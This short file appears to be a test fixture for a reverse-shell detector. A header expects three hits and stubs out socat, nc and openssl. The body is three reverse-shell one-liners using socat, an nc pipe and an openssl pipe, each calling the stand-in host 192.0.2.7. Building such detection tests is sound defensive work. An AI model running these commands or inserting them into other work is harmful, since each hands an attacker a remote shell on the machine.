# SPDX-License-Identifier: Apache-2.0
# hits: 3
# fake: /usr/bin/socat /usr/bin/nc.openbsd=nc /usr/bin/openssl
socat TCP:192.0.2.7:4444 EXEC:'bash -li',pty,stderr,setsid
sh -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f'
sh -c 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.7:443 > /tmp/s'
